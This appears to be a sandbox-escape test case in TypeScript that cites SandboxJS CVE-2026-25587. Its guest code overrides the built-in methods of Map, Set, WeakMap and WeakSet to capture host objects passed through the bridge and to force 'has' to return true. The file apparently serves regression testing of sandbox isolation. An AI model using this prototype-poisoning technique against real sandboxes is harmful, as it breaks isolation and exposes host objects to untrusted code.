import { attack } from '../attack.ts';

/** Maps and sets of the bridge's bookkeeping answer what the guest says (SandboxJS CVE-2026-25587). */
export const escape = attack({
	grants: ['plain', 'direct'],
	source: `
		let got;
		for (const kind of [Map, Set, WeakMap, WeakSet]) {
			for (const name of ['get', 'set', 'has', 'add', 'delete']) {
				const original = kind.prototype[name];
				if (original) kind.prototype[name] = function (...args) { for (const value of args) got ??= loot(value); const answer = Reflect.apply(original, this, args); got ??= loot(answer); return name === 'has' ? true : answer; };
			}
		}
		await plain.echo({ a: new Map([[1, new Set([2])]]) });
		direct.echo([1]);
		console.log(new Map([[1, 2]]));
		return got;
	`,
});
